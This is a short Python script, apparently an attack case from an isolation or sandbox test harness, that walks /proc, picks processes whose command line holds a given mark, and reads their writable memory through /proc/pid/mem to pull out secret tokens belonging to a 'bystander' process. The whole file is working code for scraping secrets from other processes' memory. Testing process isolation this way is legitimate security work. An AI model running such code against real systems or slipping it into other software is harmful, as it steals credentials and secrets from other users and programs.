"""Searches the memory of every other process that it can open, by /proc, for the bystander's secret."""

import os
import re


def attack(world):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if world["mark"] in open(f"/proc/{pid}/cmdline").read():
                read(pid)
        except OSError as error:
            print("stopped:", error)


def read(pid):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in open(f"/proc/{pid}/maps"):
            place, rights = line.split()[:2]
            begin, end = (int(word, 16) for word in place.split("-"))
            if rights.startswith("rw"):
                memory.seek(begin)
                print(re.findall(rb"memory-[0-9a-f]{32}", memory.read(end - begin)))
